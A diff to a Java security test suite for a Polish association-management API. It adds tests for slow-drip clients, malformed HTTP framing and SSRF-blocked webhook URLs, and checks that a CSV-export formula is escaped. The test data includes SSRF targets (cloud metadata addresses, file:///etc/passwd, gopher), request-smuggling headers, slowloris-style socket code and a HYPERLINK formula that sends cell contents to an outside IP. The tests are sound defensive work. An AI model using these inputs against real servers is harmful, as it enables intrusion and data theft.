@@ -56,6 +56,8 @@ import pl.konwent.app.testing.TestServer;
 class OwaspApiTop10Test {
     private static final int DECLARATION_LIMIT = 3;
     private static final Duration WAIT = Duration.ofSeconds(30);
+    /** Shorter than the shipped ten seconds, so that a slow client is seen cut off in a few. */
+    private static final String HEADER_TIMEOUT = "2 seconds";
     private static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());
     private static final String X = "owasp-x";
     private static final String Y = "owasp-y";
@@ -84,7 +86,8 @@ class OwaspApiTop10Test {
 
     @BeforeAll
     static void twoKonwents() throws Exception {
-        server = TestServer.over(TestDatabases.empty(TestDatabases.Engine.H2), DECLARATION_LIMIT, CLOCK);
+        server = TestServer.over(TestDatabases.empty(TestDatabases.Engine.H2), DECLARATION_LIMIT, CLOCK,
+                ConfigOverride.config("requestHeaderTimeout", HEADER_TIMEOUT));
         server.before();
         consumer = TestServer.over(TestDatabases.empty(TestDatabases.Engine.MARIADB),
                 ConfigOverride.config("webhooks.allowPrivateAddresses", "true"),
@@ -114,7 +117,7 @@ class OwaspApiTop10Test {
                 .expect(201).json().path("id").asText();
         voteX = openVote(secretariatX, X);
         voteY = openVote(admin, Y);
-        webhookY = departmentY.post(konwent(Y) + "/webhooks", Map.of("url", "https://203.0.113.7/konwent",
+        webhookY = departmentY.post(konwent(Y) + "/webhooks", Map.of("url", "https://93.184.215.14/konwent",
                 "events", List.of("member.accepted"))).expect(201).json().path("id").asText();
         documentY = departmentY.post(konwent(Y) + "/documents", Map.of("title", "Notatka wewnętrzna",
                 "kind", "OTHER", "date", "2024-10-23")).expect(201).json().path("id").asText();
@@ -502,6 +505,22 @@ class OwaspApiTop10Test {
             }
             anonymous.get("/api/v1").expect(200);
         }
+
+        @Test
+        void clientsSendingHeadersOrABodyAByteAtATimeAreCutOffWithin408AndHoldNothing() throws IOException {
+            // a byte a second, far slower than any real client; all of it would take a minute
+            String post = "POST /api/v1/tokens HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n";
+            String body = "{\"username\": \"admin\", \"password\": \"" + "x".repeat(20) + "\"}";
+
+            Raw.Dripped slowHeaders = Raw.drip(post, "X-Wolno: " + "a".repeat(50) + "\r\n\r\n");
+            Raw.Dripped slowBody = Raw.drip(post + "Content-Length: " + body.length() + "\r\n\r\n", body);
+
+            for (Raw.Dripped cut : List.of(slowHeaders, slowBody)) {
+                assertThat(cut.bytesSent()).as(cut.answer()).isLessThan(cut.bytesToSend());
+                assertThat(cut.answer()).startsWith("HTTP/1.1 408 ").contains("application/problem+json");
+            }
+            anonymous.get("/api/v1").expect(200);
+        }
     }
 
     @Nested
@@ -521,7 +540,7 @@ class OwaspApiTop10Test {
             representativeA.post("/api/v1/konwents", Map.of("id", "owasp-wlasny", "name", "Własny")).expect(403);
             representativeA.get("/api/v1/accounts").expect(403);
             representativeA.get(konwent(X) + "/audit").expect(403);
-            representativeA.post(konwent(X) + "/webhooks", Map.of("url", "https://203.0.113.7/podsluch",
+            representativeA.post(konwent(X) + "/webhooks", Map.of("url", "https://93.184.215.14/podsluch",
                     "events", List.of("member.accepted"))).expect(403);
             representativeA.post(konwent(X) + "/votes/" + voteX + "/closing", null).expect(403);
             representativeA.post(konwent(X) + "/members/" + memberB + "/withdrawal", Map.of("reason", "Nie"))
@@ -678,7 +697,7 @@ class OwaspApiTop10Test {
             for (String url : List.of("http://127.0.0.1:8081/tasks/gc", "http://localhost./", "http://2130706433/",
                     "http://[::ffff:127.0.0.1]/", "http://[::]/", "http://169.254.169.254/latest/meta-data/",
                     "http://[fd00:ec2::254]/", "http://100.100.100.200/", "http://10.1.2.3/", "http://[fe80::1]/",
-                    "http://metadata.google.internal/", "file:///etc/passwd", "gopher://203.0.113.7/")) {
+                    "http://metadata.google.internal/", "file:///etc/passwd", "gopher://93.184.215.14/")) {
                 JsonNode problem = departmentX.unvalidatedRequest().post(webhooks, Map.of("url", url,
                         "events", List.of("member.accepted"))).expect(422).json();
                 assertThat(problem.path("errors").findValuesAsText("field")).as(url).containsExactly("url");
@@ -690,14 +709,14 @@ class OwaspApiTop10Test {
         @Test
         void aWebhookCannotBeMovedToAPrivateAddressLater() {
             String webhooks = konwent(X) + "/webhooks";
-            String webhook = webhooks + "/" + departmentX.post(webhooks, Map.of("url", "https://203.0.113.7/a",
+            String webhook = webhooks + "/" + departmentX.post(webhooks, Map.of("url", "https://93.184.215.14/a",
                     "events", List.of("member.accepted"))).expect(201).json().path("id").asText();
 
             departmentX.unvalidatedRequest().put(webhook, Map.of("url", "http://169.254.169.254/",
                     "events", List.of("member.accepted"))).expect(422);
 
             assertThat(departmentX.get(webhook).expect(200).json().path("url").asText())
-                    .isEqualTo("https://203.0.113.7/a");
+                    .isEqualTo("https://93.184.215.14/a");
             departmentX.delete(webhook).expect(204);
         }
 
@@ -715,6 +734,26 @@ class OwaspApiTop10Test {
                 assertThat(delivery.path("lastStatus").asInt()).isEqualTo(302);
                 assertThat(internal.received()).isEmpty();
             }
+        }
+
+        @Test
+        void everySpecialPurposeRangeIsRefusedIPv4AndIPv6AndTheFormsThatEmbedIPv4() {
+            // the pinned connect (no DNS rebinding between check and connect) is staged in WebhookSenderTest
+            String webhooks = konwent(X) + "/webhooks";
+            for (String url : List.of("http://192.0.0.1/", "http://192.0.0.170/", "http://198.18.0.1/",
+                    "http://198.19.255.254/", "http://240.0.0.1/", "http://255.255.255.255/", "http://100.64.0.1/",
+                    "http://224.0.0.251/", "http://192.0.2.1/", "http://[ff05::1:3]/", "http://[::ffff:10.0.0.1]/",
+                    "http://[64:ff9b::7f00:1]/", "http://[64:ff9b::a9fe:a9fe]/", "http://[2002:7f00:1::1]/",
+                    "http://[2002:c0a8:101::1]/", "http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/",
+                    "http://[2001:db8::1]/", "http://[100::1]/", "http://[fec0::1]/")) {
+                JsonNode problem = departmentX.unvalidatedRequest().post(webhooks, Map.of("url", url,
+                        "events", List.of("member.accepted"))).expect(422).json();
+                assertThat(problem.path("errors").findValuesAsText("field")).as(url).containsExactly("url");
+                assertThat(problem.path("errors").findValuesAsText("message")).as(url).singleElement()
+                        .asString().contains("special-purpose");
+            }
+
+            assertThat(departmentX.get(webhooks).expect(200).json().path("items")).isEmpty();
         }
     }
 
@@ -812,6 +851,57 @@ class OwaspApiTop10Test {
             return anonymous.post("/api/v1/tokens", Map.of("username", "admin", "password",
                     TestServer.ADMIN_PASSWORD)).expect(201).json().path("token").asText();
         }
+
+        @Test
+        void malformedFramingIsA4xxProblemNeverA500AndLogsNoStackTrace() throws IOException {
+            String post = "POST /api/v1/tokens HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
+                    + "Connection: close\r\n";
+            String chunked = post + "Transfer-Encoding: chunked\r\n\r\n";
+            List<String> malformed = List.of(
+                    chunked + "FFFFFFFFFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n",
+                    chunked + "7FFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n",
+                    chunked + "-1\r\n{}\r\n0\r\n\r\n",
+                    chunked + "zz\r\n{}\r\n0\r\n\r\n",
+                    chunked + "2\r\n{}XX0\r\n\r\n",
+                    post + "Transfer-Encoding: gzip\r\n\r\n{}",
+                    post + "Transfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
+                    post + "Content-Length: -1\r\n\r\n{}",
+                    post + "Content-Length: 99999999999999999999\r\n\r\n{}",
+                    post + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}");
+            try (Raw.ErrorLog log = Raw.ErrorLog.start()) {
+                for (String request : malformed) {
+                    String answer = Raw.exchange(request);
+
+                    assertThat(answer).as(request).matches("(?s)HTTP/1\\.1 4\\d\\d .*")
+                            .contains("application/problem+json").doesNotContain("Exception", "at org.");
+                }
+                assertThat(log.errors()).isEmpty();
+            }
+            anonymous.get("/api/v1").expect(200);
+        }
+
+        @Test
+        void textStoredOtherwiseThanSentOrShownAsNothingIsRefusedAndNoCsvCellIsAFormula() throws IOException {
+            String declarations = konwent(Y) + "/declarations";
+            String template = new ObjectMapper().writeValueAsString(Declarations.of("NAZWA"));
+            for (String name : List.of("\\ud800", "CIS \\udc00 Pniewy", "\\u200b\\u200d\\u2060",
+                    "\\u3164\\u00a0\\u2800")) {
+                JsonNode problem = departmentY.unvalidatedRequest().post(declarations,
+                        template.replace("NAZWA", name)).expect(422).json();
+                assertThat(problem.path("errors").findValuesAsText("field")).as(name).containsExactly("memberName");
+            }
+            assertThat(departmentY.get(declarations + "?limit=500").expect(200).body()).doesNotContain("\"?\"");
+
+            String formula = "\uFF1DHYPERLINK(\"http://93.184.215.14/\"&A1)";
+            Declarations.acceptedMember(departmentY, departmentY, Y, formula);
+            String csv = departmentY.get(konwent(Y) + "/members", "Accept", "text/csv").expect(200).body();
+
+            assertThat(csv).contains("\"'" + formula.replace("\"", "\"\"") + "\"");
+            for (String cell : csv.split("\r\n|,")) {
+                assertThat(cell).as(cell).doesNotStartWith("\"\uFF1D").doesNotStartWith("\"=")
+                        .doesNotStartWith("\"\uFF20").doesNotStartWith("\"@");
+            }
+        }
     }
 
     @Nested
@@ -878,13 +968,9 @@ class OwaspApiTop10Test {
             assertThat(served.path("info").path("version")).isEqualTo(contract.path("info").path("version"));
             assertThat(contract.path("info").path("version").asText()).matches("\\d+\\.\\d+\\.\\d+");
             contract.path("paths").fieldNames().forEachRemaining(path -> assertThat(path)
-                    .matches("/api/" + pathVersion + "(/.*)?|/openapi\\.yaml|/docs(/.*)?|/problems/.*"));
-            String shipped = new String(OwaspApiTop10Test.class.getResourceAsStream("/konwent.yml").readAllBytes(),
-                    StandardCharsets.UTF_8);
-            java.util.regex.Matcher port = java.util.regex.Pattern.compile("KONWENT_PORT:-(\\d+)").matcher(shipped);
-            assertThat(port.find()).isTrue();
-            assertThat(contract.path("servers").findValuesAsText("url"))
-                    .containsExactly("http://localhost:" + port.group(1));
+                    .matches("/api/" + pathVersion + "(/.*)?|/openapi\\.yaml|/docs(/.*)?|/problems/.*|/portal/v1/.*"));
+            // relative: Swagger UI's "Try it out" calls whatever host and port /docs was opened at
+            assertThat(contract.path("servers").findValuesAsText("url")).containsExactly("/");
         }
 
         private static JsonNode contract() throws IOException {
@@ -898,6 +984,74 @@ class OwaspApiTop10Test {
             }
             for (Resource child : resource.getChildResources()) {
                 collect(child, path, into);
+            }
+        }
+
+        @Test
+        void everyStatusAnsweredToAnUnacceptableAcceptAWrongContentTypeOrAReusedKeyIsDeclared() throws IOException {
+            // each answer is validated against its operation in openapi.yaml (an undeclared status fails), as an ADMIN
+            // in konwent X, other ids unknown
+            String token = anonymous.post("/api/v1/tokens", Map.of("username", "admin", "password",
+                    TestServer.ADMIN_PASSWORD)).expect(201).json().path("token").asText();
+            Api api = anonymous.withToken(token).unvalidatedRequest();
+            JsonNode contract = contract();
+            Map<String, String> undeclared = new java.util.TreeMap<>();
+            Map<String, Set<Integer>> answered = new java.util.TreeMap<>();
+            int operations = 0;
+            for (Map.Entry<String, JsonNode> path : (Iterable<Map.Entry<String, JsonNode>>) () ->
+                    contract.path("paths").fields()) {
+                String url = path.getKey().replace("{konwentId}", X).replace("{year}", "2024")
+                        .replaceAll("\\{[^}]*}", "nieznany-1");
+                for (Map.Entry<String, JsonNode> operation : (Iterable<Map.Entry<String, JsonNode>>) () ->
+                        path.getValue().fields()) {
+                    String method = operation.getKey().toUpperCase(java.util.Locale.ROOT);
+                    if (!Set.of("GET", "PUT", "POST", "DELETE").contains(method)) {
+                        continue;
+                    }
+                    operations++;
+                    String name = method + " " + path.getKey();
+                    String json = operation.getValue().has("requestBody") ? "{}" : null;
+                    Map<String, Probe> probes = new LinkedHashMap<>();
+                    probes.put("Accept", probe(api, method, url, json, "Accept", "application/x-konwent-nieznany"));
+                    probes.put("Content-Type", probe(api, method, url, "nie JSON", "Content-Type", "text/plain"));
+                    boolean takesKey = operation.getValue().path("parameters").findValuesAsText("$ref").stream()
+                            .anyMatch(ref -> ref.endsWith("/IdempotencyKey"));
+                    if (takesKey) {
+                        String key = "klucz-" + java.util.UUID.randomUUID();
+                        probe(api, method, url, json, "Idempotency-Key", key);
+                        probes.put("Idempotency-Key",
+                                probe(api, method, url + "?inne=1", json, "Idempotency-Key", key));
+                    }
+                    probes.forEach((bad, answer) -> {
+                        answered.computeIfAbsent(bad, any -> new TreeSet<>()).add(answer.status());
+                        if (answer.undeclared() != null) {
+                            undeclared.put(name + " with a bad " + bad, answer.status() + " " + answer.undeclared());
+                        }
+                    });
+                }
+            }
+
+            assertThat(operations).isGreaterThan(80);
+            assertThat(answered.get("Accept")).contains(406);
+            assertThat(answered.get("Content-Type")).contains(415);
+            assertThat(answered.get("Idempotency-Key")).containsExactly(422);
+            assertThat(undeclared).as("answers openapi.yaml does not declare for their operation").isEmpty();
+        }
+
+        /** What one probe was answered, and why the contract does not allow it (null when it does). */
+        private record Probe(int status, String undeclared) {
+        }
+
+        /** Sends one request, its answer validated against its operation in openapi.yaml. */
+        private static Probe probe(Api api, String method, String url, String body, String header, String value) {
+            try {
+                return new Probe(api.send(method, url, body, header, value).status(), null);
+            } catch (AssertionError undeclared) {
+                String message = String.valueOf(undeclared.getMessage());
+                java.util.regex.Matcher status = java.util.regex.Pattern.compile("-> (\\d{3}) ").matcher(message);
+                return new Probe(status.find() ? Integer.parseInt(status.group(1)) : 0,
+                        message.lines().filter(line -> line.contains("validation.") || line.contains("-> "))
+                                .collect(java.util.stream.Collectors.joining(" ")));
             }
         }
     }
@@ -1029,6 +1183,97 @@ class OwaspApiTop10Test {
         } catch (InterruptedException e) {
             Thread.currentThread().interrupt();
             throw new IllegalStateException(e);
+        }
+    }
+
+    /** HTTP/1.1 by hand over a socket to the shared server, for what no well-behaved client sends. */
+    private static final class Raw {
+        /** How long a read waits for the server: between two dripped bytes, or for a whole answer. */
+        private static final int PAUSE_MILLIS = 1000;
+        private static final int ANSWER_MILLIS = 5000;
+
+        /** How far a dripping client got before the server answered or hung up, and that answer. */
+        record Dripped(int bytesSent, int bytesToSend, String answer) {
+        }
+
+        /** Sends {@code head} at once, then {@code dripped} a byte a second until the server answers or hangs up. */
+        static Dripped drip(String head, String dripped) throws IOException {
+            try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), server.getLocalPort())) {
+                socket.setSoTimeout(PAUSE_MILLIS);
+                OutputStream out = socket.getOutputStream();
+                out.write(head.getBytes(StandardCharsets.US_ASCII));
+                out.flush();
+                int sent = 0;
+                while (sent < dripped.length()) {
+                    try {
+                        out.write(dripped.charAt(sent));
+                        out.flush();
+                        sent++;
+                    } catch (IOException hungUp) {
+                        break;
+                    }
+                    try {
+                        // waits a second for an answer: the pause between two bytes
+                        int first = socket.getInputStream().read();
+                        return new Dripped(sent, dripped.length(), first < 0 ? "" : (char) first + rest(socket));
+                    } catch (java.net.SocketTimeoutException stillWaiting) {
+                        // the server is still listening; send the next byte
+                    }
+                }
+                return new Dripped(sent, dripped.length(), rest(socket));
+            }
+        }
+
+        /** Sends a whole request and answers what comes back until the server closes or goes quiet. */
+        static String exchange(String request) throws IOException {
+            try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), server.getLocalPort())) {
+                socket.setSoTimeout(ANSWER_MILLIS);
+                socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
+                socket.getOutputStream().flush();
+                return rest(socket);
+            }
+        }
+
+        private static String rest(Socket socket) {
+            java.io.ByteArrayOutputStream answer = new java.io.ByteArrayOutputStream();
+            try {
+                socket.setSoTimeout(ANSWER_MILLIS);
+                InputStream in = socket.getInputStream();
+                byte[] buffer = new byte[8192];
+                for (int n; (n = in.read(buffer)) >= 0; ) {
+                    answer.write(buffer, 0, n);
+                }
+            } catch (IOException closedOrQuiet) {
+                // the answer is what arrived
+            }
+            return answer.toString(StandardCharsets.ISO_8859_1);
+        }
+
+        /** Records what the server logs at ERROR or with a stack trace while open. */
+        static final class ErrorLog implements AutoCloseable {
+            private final ch.qos.logback.classic.Logger root = (ch.qos.logback.classic.Logger)
+                    org.slf4j.LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
+            private final ch.qos.logback.core.read.ListAppender<ch.qos.logback.classic.spi.ILoggingEvent> events =
+                    new ch.qos.logback.core.read.ListAppender<>();
+
+            static ErrorLog start() {
+                ErrorLog log = new ErrorLog();
+                log.events.start();
+                log.root.addAppender(log.events);
+                return log;
+            }
+
+            List<String> errors() {
+                return events.list.stream().filter(event -> event.getThrowableProxy() != null
+                        || event.getLevel().isGreaterOrEqual(ch.qos.logback.classic.Level.ERROR))
+                        .map(event -> event.getLoggerName() + ": " + event.getFormattedMessage()).toList();
+            }
+
+            @Override
+            public void close() {
+                root.detachAppender(events);
+                events.stop();
+            }
         }
     }
 
